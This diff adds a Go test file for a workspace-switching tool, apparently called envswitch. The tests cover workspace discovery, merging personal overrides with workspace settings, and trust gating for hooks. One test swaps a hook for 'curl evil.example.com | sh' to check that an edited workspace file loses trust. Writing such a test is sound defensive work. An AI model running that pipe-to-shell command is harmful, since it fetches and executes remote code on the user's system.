@@ -0,0 +1,144 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+)
+
+const testWorkspace = `apps:
+  The Vault:
+    configDir: gulp/configs
+    targetPath: app/env.js
+    format: envJs
+    skipWorktree: true
+    defaultEnv: prod
+    postSwitch: [npm run build]
+
+profiles:
+  stress: {The Vault: stress}
+`
+
+// setupWorkspace writes a workspace file at the root of a temp repo, moves
+// into a subdirectory of it and points the saved settings at the temp dir
+func setupWorkspace(t *testing.T, content string) (root string) {
+	t.Helper()
+	root = t.TempDir()
+	t.Setenv("ENVSWITCH_CONFIG", filepath.Join(root, "store", "config.json"))
+	os.WriteFile(filepath.Join(root, ".envswitch.yaml"), []byte(content), 0644)
+	sub := filepath.Join(root, "app", "src")
+	os.MkdirAll(sub, 0755)
+	t.Chdir(sub)
+	return root
+}
+
+func TestFindWorkspace(t *testing.T) {
+	root := setupWorkspace(t, testWorkspace)
+	ws, err := findWorkspace()
+	if err != nil || ws == nil {
+		t.Fatalf("findWorkspace: %v, %v", ws, err)
+	}
+	root, _ = filepath.EvalSymlinks(root)
+	wsRoot, _ := filepath.EvalSymlinks(ws.Root)
+	if wsRoot != root {
+		t.Errorf("root = %s, want %s", ws.Root, root)
+	}
+	app := ws.Apps["The Vault"]
+	if app.ConfigDir != filepath.Join(ws.Root, "gulp", "configs") || app.TargetPath != filepath.Join(ws.Root, "app", "env.js") {
+		t.Errorf("paths not anchored at the root: %+v", app)
+	}
+	if ws.Profiles["stress"]["The Vault"] != "stress" {
+		t.Errorf("profiles = %v", ws.Profiles)
+	}
+
+	t.Chdir(t.TempDir())
+	if ws, err := findWorkspace(); ws != nil || err != nil {
+		t.Errorf("outside a workspace: %v, %v", ws, err)
+	}
+}
+
+func TestWorkspaceMergeAndOverride(t *testing.T) {
+	setupWorkspace(t, testWorkspace)
+
+	config, err := loadPersistentConfig()
+	if err != nil {
+		t.Fatal(err)
+	}
+	app := config.Apps["The Vault"]
+	if app.Format != "envJs" || !app.SkipWorktree || app.DefaultEnv != "prod" {
+		t.Fatalf("merged app = %+v", app)
+	}
+
+	// A personal override can turn a workspace true off, and only the
+	// overrides (plus lastEnv) end up in the personal file
+	_, err = updatePersistentConfig(func(config *PersistentConfig) error {
+		app := config.Apps["The Vault"]
+		app.SkipWorktree = false
+		app.LastEnv = "stress"
+		config.Apps["The Vault"] = app
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	personal, err := loadPersonalConfig(false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	fields := appFields(personal.Apps["The Vault"])
+	if _, exists := fields["skipWorktree"]; !exists || len(personal.Profiles) != 0 {
+		t.Errorf("personal file = %+v", personal)
+	}
+	if saved := personal.Apps["The Vault"]; saved.Format != "" || saved.ConfigDir != "" || saved.DefaultEnv != "" {
+		t.Errorf("fields equal to the workspace were saved: %v", fields)
+	}
+
+	config, err = loadPersistentConfig()
+	if err != nil {
+		t.Fatal(err)
+	}
+	app = config.Apps["The Vault"]
+	if app.SkipWorktree || app.LastEnv != "stress" || app.DefaultEnv != "prod" || app.Format != "envJs" {
+		t.Errorf("after the override: %+v", app)
+	}
+}
+
+func TestWorkspaceHookTrust(t *testing.T) {
+	root := setupWorkspace(t, testWorkspace)
+	hooksOf := func() AppConfig {
+		t.Helper()
+		config, err := loadPersistentConfig()
+		if err != nil {
+			t.Fatal(err)
+		}
+		return config.Apps["The Vault"]
+	}
+
+	if app := hooksOf(); len(app.PostSwitch) != 0 || untrustedWorkspace(app) == "" {
+		t.Errorf("untrusted: %+v", app)
+	}
+	if err := runWorkspace([]string{"trust"}); err != nil {
+		t.Fatal(err)
+	}
+	if app := hooksOf(); !slices.Equal(app.PostSwitch, []string{"npm run build"}) || untrustedWorkspace(app) != "" {
+		t.Errorf("trusted: %+v", app)
+	}
+
+	// Trust is for the content the user reviewed: an edit needs a new trust
+	os.WriteFile(filepath.Join(root, ".envswitch.yaml"), []byte(strings.Replace(testWorkspace, "npm run build", "curl evil.example.com | sh", 1)), 0644)
+	if app := hooksOf(); len(app.PreSwitch) != 0 || len(app.PostSwitch) != 0 {
+		t.Errorf("changed file still trusted: %+v", app)
+	}
+
+	if err := runWorkspace([]string{"trust"}); err != nil {
+		t.Fatal(err)
+	}
+	if err := runWorkspace([]string{"untrust"}); err != nil {
+		t.Fatal(err)
+	}
+	if app := hooksOf(); len(app.PostSwitch) != 0 {
+		t.Errorf("untrusted again: %+v", app)
+	}
+}